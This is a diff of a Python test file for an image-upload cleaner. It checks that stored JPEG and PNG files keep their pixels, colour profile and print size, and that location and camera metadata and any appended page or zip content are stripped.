-    told = plain[:33] + png_chunk(b"tEXt", b"Author\0Somebody") + png_chunk(b"tIME", bytes(7)) + plain[33:]
-    assert stored(told, "a.png") == plain
+def test_a_photograph_keeps_its_look_and_loses_place_and_camera(kind, name, turn):
+    sent = photograph(kind, turn)
+    stored = check(sent, name).content
+    with Image.open(io.BytesIO(sent)) as before, Image.open(io.BytesIO(stored)) as after:
+        differences = [abs(a - b) for a, b in zip(before.tobytes(), after.tobytes(), strict=True)]
+        assert max(differences) <= (3 if kind == "JPEG" else 0)
+        assert dict(after.getexif()) == {ExifTags.Base.Orientation: turn}
+    for trace in (b"Somebody", b"Telephone", b"GPS"):
+        assert trace not in stored
 
 
 @pytest.mark.parametrize(("kind", "name"), [("JPEG", "a.jpg"), ("PNG", "a.png")])
-@pytest.mark.parametrize(("length", "stays"), [(3_000, True), (200_000, False)])
-def test_a_colour_profile_stays_if_it_is_short(kind, name, length, stays):
-    profile = random.Random(1).randbytes(length)
-    content = stored(picture(kind, icc_profile=profile), name)
-    with Image.open(io.BytesIO(content)) as image:
-        assert ("icc_profile" in image.info) is stays
+def test_a_picture_keeps_its_colour_profile_and_its_size_in_print(kind, name):
+    profile = random.Random(1).randbytes(3_000)
+    stored = check(picture(kind, icc_profile=profile, dpi=(300, 300)), name).content
+    with Image.open(io.BytesIO(stored)) as image:
+        assert image.info["icc_profile"] == profile
+        assert [round(side) for side in image.info["dpi"]] == [300, 300]
 
 
-def test_what_stands_behind_a_picture_is_not_stored():
-    assert stored(picture("JPEG") + b"Samsung trailer" * 99, "a.jpg") == picture("JPEG")
-    assert stored(picture("PNG") + b"something else" * 99, "a.png") == picture("PNG")
+@pytest.mark.parametrize(
+    ("content", "name"),
+    [
+        (picture("JPEG") + PAGE, "a.jpg"),
+        (picture("JPEG", comment=PAGE), "a.jpg"),
+        (picture("JPEG") + packed({"a.txt": PAGE}), "a.jpg"),
+        (picture("PNG") + PAGE, "a.png"),
+        (picture("PNG")[:33] + png_chunk(b"tEXt", b"a\0" + PAGE) + picture("PNG")[33:], "a.png"),
+    ],
+)
+def test_nothing_but_the_picture_is_stored(content, name):
+    stored = check(content, name).content
+    assert b"alert" not in stored
+    assert b"PK\3\4" not in stored
 
 
-@pytest.mark.parametrize(("kind", "name"), [("JPEG", "a.jpg"), ("PNG", "a.png")])
-def test_a_plain_picture_is_stored_as_it_is(kind, name):
-    file = io.BytesIO(picture(kind))
-    assert cleaned(file, recognise(file, name)) is None
+@pytest.mark.parametrize("mode", ["1", "L", "P", "LA", "RGBA", "I;16"])
+def test_a_png_of_any_colours_keeps_its_pixels(mode):
+    content = io.BytesIO()
+    Image.radial_gradient("L").convert(mode if mode != "I;16" else "I").convert(mode).save(content, "PNG")
+    stored = check(content.getvalue(), "a.png").content
+    with Image.open(content) as before, Image.open(io.BytesIO(stored)) as after:
+        assert before.mode == after.mode
+        assert before.tobytes() == after.tobytes()
